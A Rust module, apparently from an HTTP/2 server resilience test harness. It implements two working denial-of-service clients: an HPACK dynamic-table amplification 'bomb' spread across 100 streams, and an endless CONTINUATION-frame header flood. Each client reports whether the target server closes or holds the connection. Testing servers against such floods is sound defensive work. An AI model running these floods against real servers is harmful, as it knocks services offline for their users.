//! Clients of HTTP/2 that make much of little: heads that HPACK blows up, and a head that never ends.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;

use super::Outcome;
use super::server::SETTINGS;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Streams of one connection, each with a head of 60 KB of which 40 bytes are sent.
const STREAMS: u32 = 100;

/// The field that fills the dynamic table: name and value.
const VALUE: usize = 3900;

/// Opens streams whose heads say the same large field again and again.
pub(super) async fn bombs(mut stream: TcpStream) -> io::Result<Outcome> {
    let mut bytes = [PREFACE, &SETTINGS].concat();
    for n in 0..STREAMS {
        // GET, http, /, authority.
        let mut head = vec![0x82, 0x86, 0x84, 0x01, 5];
        head.extend(b"crowd");
        let mut times = 15;
        if n == 0 {
            // Kept in the table, where it is entry 62 from now on.
            head.extend([0x40, 1, b'x', 0x7f, 0xbd, 0x1d]);
            head.resize(head.len() + VALUE, b'y');
            times -= 1;
        }
        head.resize(head.len() + times, 0x80 | 62);
        bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &head));
    }
    stream.write_all(&bytes).await?;
    look(stream).await
}

/// Sends one head in pieces, for as long as it is taken.
pub(super) async fn endless_head(mut stream: TcpStream) -> io::Result<Outcome> {
    let mut bytes = [PREFACE, &SETTINGS].concat();
    bytes.extend(frame(HEADERS, END_STREAM, 1, &[0x82, 0x86, 0x84]));
    stream.write_all(&bytes).await?;
    let mut piece = Vec::new();
    for _ in 0..1000 {
        // A field that is not kept: a name of one byte and a value of ten.
        piece.extend([0x00, 1, b'a', 10]);
        piece.extend([b'b'; 10]);
    }
    let piece = frame(CONTINUATION, 0, 1, &piece);
    for _ in 0..10_000 {
        if let Err(error) = stream.write_all(&piece).await {
            return Ok((super::cause(&error), None));
        }
    }
    Ok(("held", Some(stream)))
}

/// Reads for three seconds: whether the connection goes on.
async fn look(mut stream: TcpStream) -> io::Result<Outcome> {
    let mut bytes = vec![0; 16 * 1024];
    let end = async {
        loop {
            match stream.read(&mut bytes).await {
                Ok(0) => return "closed",
                Ok(_) => {}
                Err(error) => return super::cause(&error),
            }
        }
    };
    match timeout(Duration::from_secs(3), end).await {
        Ok(end) => Ok((end, None)),
        Err(_) => Ok(("held", Some(stream))),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // Never as long as a frame may be.
    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![a, b, c, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}
